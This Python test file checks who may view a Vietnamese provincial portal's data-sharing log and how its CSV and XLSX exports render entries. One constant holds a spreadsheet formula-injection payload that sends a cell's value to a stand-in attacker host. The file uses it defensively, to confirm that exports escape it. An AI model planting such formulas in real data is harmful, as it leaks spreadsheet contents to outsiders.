"""The sharing-log page and its exports (NĐ 47 Art. 45; QĐ 43 Art. 7.4; issue #5 item 5).

``/sharing-log`` shows the entries the viewer may read, with filters and paging;
``/sharing-log.csv`` and ``/sharing-log.xlsx`` export them with the same filters and the same
scope. Entries come from real reads through the app, or from ``entries.append`` where a test
needs a given time or value.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import openpyxl
import pytest

from ckanext.daknong import tabular
from ckanext.daknong.sharing_log import entries, listing
from ckanext.daknong.tests import translations
from ckanext.daknong.tests.sharing_log.test_listing import (
    Stage,
    draft,
    entries_since_now,
    make_reads,
)

pytestmark = pytest.mark.usefixtures("with_plugins")

TEMPLATE = Path(__file__).resolve().parents[4] / "templates" / "sharing_log" / "index.html"
SOURCES = [Path(listing.__file__), Path(listing.__file__).with_name("views.py")]
FORMULA = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Bấm vào đây")'


@pytest.fixture(scope="module")
def stage(reset_db, reset_index, migrate_db_for):
    """The world, its readers and real reads, built once for the tests that only read them
    (test_listing.Stage); a test that appends entries asks for ``fresh_world``."""
    builders = {"reads": lambda app, world: make_reads(app, world, entries_since_now())}
    shared = Stage(reset_db, reset_index, migrate_db_for, builders)
    yield shared
    shared.close()


@pytest.fixture(scope="module")
def app(stage):
    """One test client for the module (built once, with the plugins loaded)."""
    return stage.app


@pytest.fixture
def fresh_world():
    """Asked for by a test that writes: its world is built for it alone (see ``Stage``)."""


@pytest.fixture
def readers(request, stage, with_plugins, monkeypatch):
    return stage.enter(request, monkeypatch)


@pytest.fixture
def reads(readers, stage):
    return stage.parts["reads"]


def _rows_shown(body: str) -> set[int]:
    return {int(i) for i in re.findall(r'<tr id="entry-(\d+)">', body)}


def _page(app, world, role, path="/sharing-log", expect=200, **params):
    response = app.get(
        path, query_string=params, headers=world.headers(role) if role else {}, status=expect
    )
    return response.get_data(as_text=True)


def _csv(app, world, role, **params):
    response = app.get(
        "/sharing-log.csv", query_string=params, headers=world.headers(role), status=200
    )
    return response, list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def _xlsx(app, world, role, **params):
    response = app.get(
        "/sharing-log.xlsx", query_string=params, headers=world.headers(role), status=200
    )
    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    return response, workbook.active


def _column(name: str) -> int:
    return [key for key, _vi, _en in listing.COLUMNS].index(name)


class TestPageScope:
    def test_providing_agency_sees_the_log_of_its_data(self, app, readers, reads):
        """NĐ 47 Art. 45: the provider's page lists reads of its data by every agency and the
        refused attempts, not reads of another agency's data."""
        shown = _rows_shown(_page(app, readers, "provider_admin"))

        for label in ("granted_read", "search", "outsider_denied", "own_read"):
            assert reads[label]["id"] in shown, label
        assert reads["other_read"]["id"] not in shown

    def test_requesting_agency_sees_its_own_requests(self, app, readers, reads):
        """NĐ 47 Art. 45: the requester's page lists what it asked, of every provider."""
        shown = _rows_shown(_page(app, readers, "consumer_editor"))

        assert {reads[k]["id"] for k in ("granted_read", "search", "other_read")} <= shown
        assert not {reads[k]["id"] for k in ("outsider_denied", "own_read")} & shown

    @pytest.mark.parametrize("role", ["data_admin", "data_admin_org_admin", "sysadmin"])
    def test_data_administrator_sees_everything(self, app, readers, reads, role):
        """NĐ 47 Art. 45 / QĐ 43 Art. 16: the provincial data administrator and sysadmins."""
        shown = _rows_shown(_page(app, readers, role))

        assert {entry["id"] for entry in reads.values()} <= shown

    def test_admin_of_an_unrelated_agency_sees_no_entry(self, app, readers, reads):
        """NĐ 47 Art. 45: an agency with no part in these reads sees none of them."""
        body = _page(app, readers, "unrelated_admin", path="/en/sharing-log")

        assert _rows_shown(body) == set()
        assert "No entry matches these filters." in body
        assert readers.users["consumer_member"]["name"] not in body

    @pytest.mark.parametrize(
        "path", ["/sharing-log", "/en/sharing-log", "/sharing-log.csv", "/sharing-log.xlsx"]
    )
    @pytest.mark.parametrize("role", ["provider_member", "consumer_member", "outsider"])
    def test_plain_members_and_users_without_agency_get_403(self, app, readers, reads, role, path):
        """NĐ 47 Art. 45 (issue #5): nobody else reads the log, not even as a download."""
        body = _page(app, readers, role, path=path, expect=403)

        assert not _rows_shown(body)
        assert "Đối soát hồ sơ đất đai" not in body  # the granted read's purpose
        assert reads["granted_read"]["hash"] not in body
        assert "H16.77" not in body

    @pytest.mark.parametrize("path", ["/sharing-log", "/sharing-log.csv", "/sharing-log.xlsx"])
    def test_anonymous_users_are_sent_to_log_in_and_see_nothing(self, app, readers, reads, path):
        """NĐ 47 Art. 45: an anonymous visitor is redirected to the login page; the
        redirect carries no entry."""
        response = app.get(path, query_string={"channel": "api"}, follow_redirects=False)
        body = response.get_data(as_text=True)

        assert response.status_code == 302
        assert "/user/login" in response.headers["Location"]
        assert "came_from" in response.headers["Location"]
        assert not _rows_shown(body)
        assert readers.users["consumer_member"]["name"] not in body
        assert reads["granted_read"]["hash"] not in body


class TestPageContent:
    @pytest.mark.usefixtures("fresh_world")
    def test_entries_are_shown_in_vietnam_time_newest_first(self, app, readers):
        """NĐ 47 Art. 45.2: times are stored in UTC and shown in Asia/Ho_Chi_Minh."""
        at = dt.datetime(2026, 3, 14, 17, 30, tzinfo=dt.timezone.utc)
        rows = entries.append(
            [draft(readers, at, purpose="Kiểm tra giờ"), draft(readers, at, purpose="Mục mới")]
        )
        body = _page(app, readers, "consumer_admin", agency="H16.77")

        assert "15/03/2026 00:30:00" in body  # as Vietnamese write a date (issue 12 §3)
        assert "17:30:00" not in body
        assert body.index(f'id="entry-{rows[1]["id"]}"') < body.index(f'id="entry-{rows[0]["id"]}"')
        assert "Kiểm tra giờ" in body and "H16.21" in body

    def test_events_channels_and_statuses_are_words_not_codes(self, app, readers, reads):
        """NĐ 47 Art. 45.1 (issue 12 §3): the provider reads what happened in Vietnamese."""
        body = _page(app, readers, "provider_admin")
        cells = dict(re.findall(r'<td data-code="([a-z_]+)">([^<]+)</td>', body))

        assert cells["read"] == "Đọc dữ liệu"
        assert cells["search"] == "Tìm kiếm"
        assert cells["api"] == "API" and cells["web"] == "Trang web"
        assert cells["served"] == "Đã cung cấp" and cells["denied"] == "Bị từ chối"
        english = dict(
            re.findall(
                r'<td data-code="([a-z_]+)">([^<]+)</td>',
                _page(app, readers, "provider_admin", path="/en/sharing-log"),
            )
        )
        assert english["read"] == "Data read" and english["denied"] == "Refused"

    @pytest.mark.usefixtures("fresh_world")
    def test_datasets_are_named_by_title_only_to_those_who_may_read_them(self, app, readers):
        """A refused request of another agency is in that agency's log too (NĐ 47 Art. 45),
        but the title of the restricted dataset it may not read is not shown there."""
        restricted = readers.datasets["restricted"]
        (row,) = entries.append(
            [
                draft(
                    readers,
                    status=entries.DENIED,
                    requester_org_id=readers.unrelated["id"],
                    requester_agency_code="H16.40",
                    dataset_ids=[restricted["id"]],
                )
            ]
        )
        provider = _page(app, readers, "provider_admin")
        requester = _page(app, readers, "unrelated_admin")

        assert f'id="entry-{row["id"]}"' in provider and f'id="entry-{row["id"]}"' in requester
        assert restricted["title"] in provider
        assert f'href="/dataset/{restricted["name"]}"' in provider
        assert restricted["title"] not in requester and restricted["name"] not in requester
        assert f"bộ dữ liệu bạn không được xem ({restricted['id'][:8]})" in requester

    def test_filters_apply_and_are_kept_in_the_download_links(self, app, readers, reads):
        """NĐ 47 Art. 45: the page filters by channel, and its CSV/XLSX links carry the filters."""
        body = _page(app, readers, "provider_admin", channel="web")

        assert _rows_shown(body) >= {reads["own_read"]["id"]}
        assert reads["granted_read"]["id"] not in _rows_shown(body)
        assert "/sharing-log.csv?channel=web" in body
        assert "/sharing-log.xlsx?channel=web" in body
        assert '<option value="web" selected>' in body

    @pytest.mark.usefixtures("fresh_world")
    def test_paging_50_a_page(self, app, readers):
        """NĐ 47 Art. 45: 50 entries a page, newest first, with links to the next page."""
        rows = entries.append([draft(readers, purpose=f"Lần {n}") for n in range(51)])
        first = _page(app, readers, "consumer_admin", path="/en/sharing-log", agency="H16.77")
        second = _page(
            app, readers, "consumer_admin", path="/en/sharing-log", agency="H16.77", page=2
        )

        assert _rows_shown(first) == {row["id"] for row in rows[1:]}
        assert _rows_shown(second) == {rows[0]["id"]}
        assert "51 entries" in first
        assert "Page 1 of 2" in first and "page=2" in first
        assert "Page 2 of 2" in second and "page=1" in second

    @pytest.mark.usefixtures("fresh_world")
    def test_a_page_number_that_is_not_a_number_shows_the_first_page(self, app, readers):
        """NĐ 47 Art. 45: ?page=abc is the first page, not a server error."""
        (row,) = entries.append([draft(readers)])

        body = _page(app, readers, "consumer_admin", agency="H16.77", page="abc")

        assert _rows_shown(body) == {row["id"]}

    @pytest.mark.parametrize(
        ("params", "message"),
        [
            ({"date_from": "31/01/2026"}, "Use a date such as 2026-01-31"),
            ({"channel": "fax"}, "Unknown value: fax"),
            ({"status": "ok"}, "Unknown value: ok"),
            ({"agency": "khong-co-co-quan-nay"}, "Unknown agency"),
        ],
    )
    def test_bad_filter_is_explained_in_english(self, app, readers, reads, params, message):
        """NĐ 47 Art. 45: a wrong filter is named on the page (English on /en/ pages), and the
        page falls back to the unfiltered log of the viewer's own scope."""
        body = _page(app, readers, "provider_admin", path="/en/sharing-log", **params)

        assert message in body
        assert reads["own_read"]["id"] in _rows_shown(body)
        assert reads["other_read"]["id"] not in _rows_shown(body)

    def test_bad_filter_is_explained_in_vietnamese(self, app, readers):
        """NĐ 47 Art. 45: the portal's default language is Vietnamese."""
        body = _page(app, readers, "data_admin", date_from="31/01/2026")

        assert "Nhập ngày theo dạng 2026-01-31" in body


class TestCsvExport:
    def test_csv_is_utf8_with_bom_and_vietnamese_headers(self, app, readers, reads):
        """NĐ 47 Art. 45: the provider's CSV opens in Excel with Vietnamese intact."""
        response, rows = _csv(app, readers, "provider_admin")

        assert response.get_data().startswith(b"\xef\xbb\xbf")
        assert response.mimetype == "text/csv"
        assert "attachment" in response.headers["Content-Disposition"]
        assert rows[0] == listing.headers()
        assert rows[0][1] == "Thời điểm (giờ Việt Nam)"
        ids = {int(row[0]) for row in rows[1:]}
        assert {reads[k]["id"] for k in ("granted_read", "search", "own_read")} <= ids
        assert reads["other_read"]["id"] not in ids

    def test_csv_rows_carry_the_art_45_2_fields(self, app, readers, reads):
        """NĐ 47 Art. 45.2: every field of an entry, Vietnam time, searches trimmed to the
        provider's own datasets."""
        _response, rows = _csv(app, readers, "provider_admin", agency="H16.77")
        by_id = {int(row[0]): row for row in rows[1:]}
        read = by_id[reads["granted_read"]["id"]]
        search = by_id[reads["search"]["id"]]

        assert read[_column("occurred_at_local")].endswith("+07:00")
        assert read[_column("user_name")] == readers.users["consumer_member"]["name"]
        assert read[_column("requester_agency_code")] == "H16.77"
        assert read[_column("provider_agency_codes")] == "H16.21"
        assert read[_column("dataset_ids")] == readers.datasets["restricted"]["id"]
        assert read[_column("purpose")] == "Đối soát hồ sơ đất đai"
        assert read[_column("content_sha256")] == reads["granted_read"]["content_sha256"]
        assert read[_column("hash")] == reads["granted_read"]["hash"]
        assert '"path":"/api/3/action/package_show"' in read[_column("request_content")]
        assert readers.datasets["other_shared"]["id"] not in search[_column("dataset_ids")]
        assert readers.datasets["shared"]["id"] in search[_column("dataset_ids")]
        assert search[_column("provider_agency_codes")] == "H16.21"

    def test_csv_applies_the_filters(self, app, readers, reads):
        """NĐ 47 Art. 45: the export is the filtered log, not the whole log."""
        _response, rows = _csv(app, readers, "data_admin", status="denied")

        assert rows[1:] and {row[_column("status")] for row in rows[1:]} == {"denied"}
        assert reads["outsider_denied"]["id"] in {int(row[0]) for row in rows[1:]}

    def test_csv_bad_filter_is_a_400_with_the_reason(self, app, readers):
        """NĐ 47 Art. 45: a wrong filter in an export is refused, not exported unfiltered."""
        response = app.get(
            "/en/sharing-log.csv",
            query_string={"date_to": "hôm nay"},
            headers=readers.headers("data_admin"),
        )

        assert response.status_code == 400
        assert "Use a date such as 2026-01-31" in response.get_data(as_text=True)

    @pytest.mark.usefixtures("fresh_world")
    def test_formulas_from_requesters_are_exported_as_text(self, app, readers, new_entries):
        """NĐ 47 Art. 45: a user agent chosen by the requester cannot run in the office's
        spreadsheet (CSV/formula injection)."""
        app.get(
            "/api/3/action/package_show",
            query_string={"id": readers.datasets["shared"]["id"]},
            headers={**readers.headers("consumer_member"), "User-Agent": FORMULA},
            status=200,
        )
        (entry,) = new_entries()
        _response, rows = _csv(app, readers, "provider_admin", agency="H16.77")
        (row,) = [r for r in rows[1:] if int(r[0]) == entry["id"]]

        assert entry["user_agent"] == FORMULA  # the log keeps what was sent
        assert row[_column("user_agent")] == "'" + FORMULA

        _response, sheet = _xlsx(app, readers, "provider_admin", agency="H16.77")
        (cells,) = [r for r in sheet.iter_rows(min_row=2) if r[0].value == entry["id"]]
        cell = cells[_column("user_agent")]

        assert cell.data_type == "s"
        assert cell.value == "'" + FORMULA


class TestXlsxExport:
    def test_xlsx_has_vietnamese_headers_filters_and_scope(self, app, readers, reads):
        """NĐ 47 Art. 45: the workbook holds the filtered entries the viewer may read."""
        response, sheet = _xlsx(app, readers, "consumer_admin", channel="api")
        rows = list(sheet.iter_rows(values_only=True))

        assert response.mimetype == tabular.XLSX_MIMETYPE
        assert sheet.title == "Nhật ký chia sẻ dữ liệu"
        assert list(rows[0]) == listing.headers()
        ids = {row[0] for row in rows[1:]}
        assert {reads[k]["id"] for k in ("granted_read", "search", "other_read")} <= ids
        assert reads["outsider_denied"]["id"] not in ids  # not the consumer's request
        assert reads["own_read"]["id"] not in ids  # web, and not the consumer's
        assert {row[_column("channel")] for row in rows[1:]} == {"api"}

    @pytest.mark.usefixtures("fresh_world")
    def test_xlsx_keeps_vietnamese_text_and_vietnam_time(self, app, readers):
        """NĐ 47 Art. 45.2: purposes in Vietnamese and times in Vietnam time survive."""
        at = dt.datetime(2026, 3, 14, 17, 0, tzinfo=dt.timezone.utc)
        (row,) = entries.append([draft(readers, at, purpose="Đối chiếu hồ sơ địa chính")])
        _response, sheet = _xlsx(app, readers, "provider_editor", date_from="2026-03-15")
        (cells,) = [r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] == row["id"]]

        assert cells[_column("purpose")] == "Đối chiếu hồ sơ địa chính"
        assert cells[_column("occurred_at_local")] == "2026-03-15T00:00:00+07:00"


class TestTranslations:
    def test_every_text_of_the_page_and_its_messages_has_vietnamese(self):
        """NĐ 47 Art. 45: the log is read by Vietnamese offices; the page and every message
        of the page, the exports and the action have a Vietnamese translation."""
        msgids = translations.template_msgids(TEMPLATE)
        for source in SOURCES:
            text = source.read_text("utf-8")
            msgids |= set(re.findall(r'\b_\(\s*"([^"]+)"', text))

        assert len(msgids) > 30
        assert sorted(msgids - translations.vietnamese_msgids()) == []
